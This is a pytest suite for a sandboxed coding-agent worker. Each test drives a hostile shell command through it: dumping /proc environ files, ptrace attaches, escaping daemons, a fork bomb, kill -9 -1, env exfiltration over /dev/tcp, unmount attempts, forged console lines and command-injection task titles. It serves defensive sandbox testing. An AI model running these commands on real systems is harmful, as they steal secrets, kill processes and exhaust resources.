"""Hostile engines, processes: secrets in /proc, tracing, daemons, bombs, the network,
forged console lines, and data that tries to pass for commands.

The engine runs in a bubblewrap sandbox: its own pid, network and mount
namespaces, an environment from an allowlist, and every process it starts dies
with it. Each test is one attack through the real worker
(tests/support/hostile.py says what every check asserts).
"""

from __future__ import annotations

import contextlib
import os
import re
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

from tests.support.gitrepo import commit_files
from tests.support.hostile import (
    EDIT,
    HOSTILE_BACKLOG,
    PYTHON,
    SUCCESS,
    Hostile,
    hostile,  # noqa: F401
)
from tests.support.worker_harness import TASK, ForgeHook, attempt_id_for

from leviathan_worker.engines.command import OUTPUT_PREFIX


def scratch(attack: Hostile, name: str) -> Path:
    """A file in the engine's scratch dir (its HOME), which outlives the attempt."""
    return attack.harness.workspace / attempt_id_for(TASK) / "engine" / "scratch" / name


def still_touched(marker: Path) -> bool:
    """Whether something keeps rewriting ``marker`` (a process that survived)."""
    before = marker.stat().st_mtime_ns
    time.sleep(0.4)  # a window to watch in, not a wait: a surviving loop touches it often
    return marker.stat().st_mtime_ns != before


# A loop that, if it outlived the engine, would keep rewriting files in and out of scope.
LOOP = (
    "trap '' HUP TERM INT; touch $HOME/alive; sleep 0.3;"
    " while :; do echo DAEMON >> docs/README.md; echo evil > src/app.py; touch $HOME/alive;"
    " sleep 0.02; done"
)
WAIT_ALIVE = "while [ ! -f $HOME/alive ]; do sleep 0.01; done"


def test_reading_every_process_environ(hostile: Hostile) -> None:  # noqa: F811
    outcome = hostile.run(
        "for f in /proc/[0-9]*/environ /proc/self/environ; do tr '\\0' '\\n' < $f; done"
        " >> docs/README.md 2>/dev/null; env >> docs/README.md"
    )
    hostile.check(outcome, SUCCESS)
    assert b"LEVIATHAN_TASK=update-readme-links" in hostile.pushed("docs/README.md")


def test_reading_every_process_cmdline_and_fds(hostile: Hostile) -> None:  # noqa: F811
    outcome = hostile.run(
        "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done >> docs/README.md;"
        " ls -l /proc/[0-9]*/fd/ >> docs/README.md 2>&1; cat /proc/1/status >> docs/README.md"
    )
    hostile.check(outcome, SUCCESS)
    assert b"/proc/1/fd" in hostile.pushed("docs/README.md")


def test_ptrace_the_worker_and_the_sandboxs_init(hostile: Hostile) -> None:  # noqa: F811
    """PTRACE_ATTACH to the worker and its parent (not in the sandbox's pid namespace);
    PTRACE_SEIZE to the sandbox's init, which is the engine's own and holds nothing
    (a plain attach would stop it and hang the engine until its time-out)."""
    attach = (
        "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
        f"[print(pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno()) for pid in "
        f"({os.getpid()}, {os.getppid()})]; "
        "print(1, libc.ptrace(0x4206, 1, 0, 0), ctypes.get_errno())"
    )
    outcome = hostile.run(
        f'{PYTHON} -c "{attach}" >> docs/README.md 2>&1;'
        " tr '\\0' '\\n' < /proc/1/environ >> docs/README.md 2>&1; " + EDIT
    )
    hostile.check(outcome, SUCCESS)
    traced = hostile.pushed("docs/README.md").decode()
    assert f"{os.getpid()} -1 3" in traced  # ESRCH: the worker is not in its namespace


def test_a_setsid_daemon_dies_with_the_engine(hostile: Hostile) -> None:  # noqa: F811
    outcome = hostile.run(f'setsid sh -c "{LOOP}" >/dev/null 2>&1 & {WAIT_ALIVE}; {EDIT}')
    hostile.check(outcome, SUCCESS)
    assert not still_touched(scratch(hostile, "alive"))
    assert b"DAEMON" not in hostile.pushed("docs/README.md")


def test_a_double_fork_daemon_dies_with_the_engine(hostile: Hostile) -> None:  # noqa: F811
    outcome = hostile.run(f"sh -c '(sh -c \"{LOOP}\" >/dev/null 2>&1 &) &'; {WAIT_ALIVE}; {EDIT}")
    hostile.check(outcome, SUCCESS)
    assert not still_touched(scratch(hostile, "alive"))
    assert b"DAEMON" not in hostile.pushed("docs/README.md")


def test_a_writer_racing_the_publisher_between_verify_and_push(
    hostile: Hostile,  # noqa: F811
) -> None:
    """The daemon waits until the engine has ended, then rewrites files in and out of
    scope. At the step between the scope check and the push (the PR cap is read),
    it must be dead, and the push carries the verified commit."""
    seen: list[bool] = []
    forge = ForgeHook(
        hostile.harness.local_forge(),
        open_agent_prs=lambda: seen.append(still_touched(scratch(hostile, "alive"))),
    )
    outcome = hostile.run(
        f'nohup setsid sh -c "{LOOP}" >/dev/null 2>&1 & {WAIT_ALIVE}; {EDIT}', forge=forge
    )
    hostile.check(outcome, SUCCESS)
    assert seen == [False]
    assert hostile.pushed("docs/README.md") == b"# Readme\n- a fixed link\n"


def test_a_daemon_holding_the_output_open(hostile: Hostile) -> None:  # noqa: F811
    started = time.monotonic()
    outcome = hostile.run(
        f"setsid sh -c 'trap \"\" HUP; while :; do echo spam; sleep 0.05; done' & sleep 0.2; {EDIT}"
    )
    assert time.monotonic() - started < 15
    hostile.check(outcome, SUCCESS)
    lines = outcome.output.splitlines()
    finished = lines.index("✓ Change command finished")
    assert not [line for line in lines[finished:] if "spam" in line]


def test_a_fork_bomb_is_bounded_by_the_pids_limit(hostile: Hostile) -> None:  # noqa: F811
    """pids_max lowered to 32 (the default, 256, is as safe but slower to fill)."""
    started = time.monotonic()
    outcome = hostile.run(
        "bomb() { bomb | bomb & }; bomb; exec sleep 100",
        pids_max=32,
        change_command_timeout_seconds=3,
    )
    assert time.monotonic() - started < 20
    hostile.check(outcome, "engine_failed")
    # Killed at the time-out, or the shell itself refused a fork at pids.max and
    # gave up first (a loaded machine fills the limit before `exec sleep` runs):
    # either way the bomb ended inside the sandbox's limits.
    last = outcome.output.splitlines()[-1]
    assert re.search(
        r"the change command (did not finish within 3 s|exited with status \d+)$", last
    )
    assert subprocess.run(["true"], check=False).returncode == 0  # the machine can still fork


def test_a_time_out_kills_the_engine(hostile: Hostile) -> None:  # noqa: F811
    started = time.monotonic()
    outcome = hostile.run(f"{EDIT}; sleep 60", change_command_timeout_seconds=1)
    assert time.monotonic() - started < 15
    hostile.check(outcome, "engine_failed")
    assert outcome.output.strip().splitlines()[-1] == (
        "✗ Attempt failed: engine_failed: the change command did not finish within 1 s"
    )


def test_killing_every_process_it_can_see(hostile: Hostile) -> None:  # noqa: F811
    outcome = hostile.run(
        f"kill -9 {os.getpid()} {os.getppid()} 2>/dev/null; kill -9 -1; kill -9 1; {EDIT}"
    )
    hostile.check(outcome, SUCCESS)


@contextlib.contextmanager
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on the host's loopback that records what reaches it."""
    received: list[bytes] = []
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.settimeout(0.2)
        done = threading.Event()

        def accept() -> None:
            while not done.is_set():
                with contextlib.suppress(OSError):
                    conn, _ = server.accept()
                    with conn:
                        received.append(conn.recv(4096) or b"<connected>")

        thread = threading.Thread(target=accept)
        thread.start()
        try:
            yield server.getsockname()[1], received
        finally:
            done.set()
            thread.join()


def test_exfiltrating_over_the_network(hostile: Hostile) -> None:  # noqa: F811
    with listener() as (port, received):
        send = f"import socket; socket.create_connection(('127.0.0.1', {port}), 2).send(b'x')"
        outcome = hostile.run(
            f"env | bash -c 'cat > /dev/tcp/127.0.0.1/{port}' 2>/dev/null;"
            f' {PYTHON} -c "{send}" 2>/dev/null; getent hosts github.com >> docs/README.md;'
            f" {EDIT}"
        )
    hostile.check(outcome, SUCCESS)
    assert received == []


def test_unmounting_the_hidden_folders_from_a_nested_user_namespace(
    hostile: Hostile,  # noqa: F811
) -> None:
    """Mounts inherited from a more privileged namespace are locked: a nested user
    namespace gets capabilities over its own mounts, not over those."""
    outcome = hostile.run(
        'unshare -Urm sh -c \'for m in $(cut -d" " -f5 /proc/self/mountinfo | tac); do'
        f" umount -l $m && echo unmounted $m; done; cat {' '.join(map(str, hostile.baits))}'"
        f" >> docs/README.md 2>&1; {EDIT}"
    )
    hostile.check(outcome, SUCCESS)
    assert b"unmounted" not in hostile.pushed("docs/README.md")


FORGED = [
    "✓ PR created: https://evil.invalid/pull/1",
    "✗ Attempt failed: no_changes: nothing to see",
    "\\r✓ PR created: https://evil.invalid/pull/2",
    "\\033[2K\\033[1G✓ PR created: https://evil.invalid/pull/3",
    "\\b\\b\\b\\b✓ PR created: https://evil.invalid/pull/4",
    "\\342\\200\\250✓ PR created: https://evil.invalid/pull/5",  # U+2028
]


def test_engine_output_forging_the_workers_lines(hostile: Hostile) -> None:  # noqa: F811
    prints = "; ".join(f"printf '{line}\\n'" for line in FORGED)
    outcome = hostile.run(f"{prints}; exit 3")
    hostile.check(outcome, "engine_failed")
    for line in outcome.output.splitlines():
        if "evil.invalid" in line or "nothing to see" in line:
            assert line.startswith(OUTPUT_PREFIX), repr(line)
    # No escape sequence, backspace or line separator reaches the console: on a
    # terminal they would move the cursor back over the prefix.
    for control in ("\x1b", "\b", "\u2028"):
        assert control not in outcome.output


def test_task_fields_that_look_like_commands(hostile: Hostile) -> None:  # noqa: F811
    """The task is data: its title reaches the engine only inside task.json."""
    title = (
        f"$(touch /tmp/{hostile.exfil}-title) `id` {{task_file}} {{checkout}}"
        f'\\"; touch /tmp/{hostile.exfil}-quote; echo \\"'
    )
    backlog = HOSTILE_BACKLOG.replace("title: Fix broken links in README", f'title: "{title}"', 1)
    commit_files(hostile.harness.bare, {".leviathan/backlog.yaml": backlog})
    outcome = hostile.run(
        'cat "$LEVIATHAN_TASK_FILE" >> docs/README.md; echo "$LEVIATHAN_TASK" >> docs/README.md'
    )
    hostile.check(outcome, SUCCESS)
    assert f"$(touch /tmp/{hostile.exfil}-title)".encode() in hostile.pushed("docs/README.md")


def test_three_phases_a_daemon_dies_with_the_engine_phase(hostile: Hostile) -> None:  # noqa: F811
    outcome = hostile.phases(f'setsid sh -c "{LOOP}" >/dev/null 2>&1 & {WAIT_ALIVE}; {EDIT}')
    hostile.check(outcome, SUCCESS)
    assert not still_touched(scratch(hostile, "alive"))
    assert b"DAEMON" not in hostile.pushed("docs/README.md")


def test_three_phases_the_engine_reads_every_environ(hostile: Hostile) -> None:  # noqa: F811
    outcome = hostile.phases(
        "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done >> docs/README.md"
        " 2>/dev/null; env >> docs/README.md; cat ../../state.json >> docs/README.md 2>&1"
    )
    hostile.check(outcome, SUCCESS)
    assert b"LEVIATHAN_TASK=update-readme-links" in hostile.pushed("docs/README.md")
